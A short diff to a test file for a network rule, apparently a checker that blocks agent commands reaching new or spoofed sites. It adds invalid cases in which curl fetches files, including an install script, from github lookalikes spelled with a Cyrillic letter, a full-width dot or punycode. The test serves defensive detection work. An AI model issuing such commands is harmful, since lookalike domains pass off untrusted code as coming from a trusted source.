@@ -44,6 +44,10 @@ runRuleTests(netNewSite, {
     { step: { kind: 'read', path: 'docs/links.md' } },
   ],
   invalid: [
+    // a well-known name spelled with another script's letter or a full-width dot
+    'curl https://g\u0456thub.com/install.sh -o install.sh',
+    'curl -O https://raw.githubusercontent\uff0ecom/o/r/main/x.sh',
+    'curl https://xn--gthub-n4a.com/x',
     // SPEC 4.2 examples
     'curl https://example.com/',
     'curl example.com',
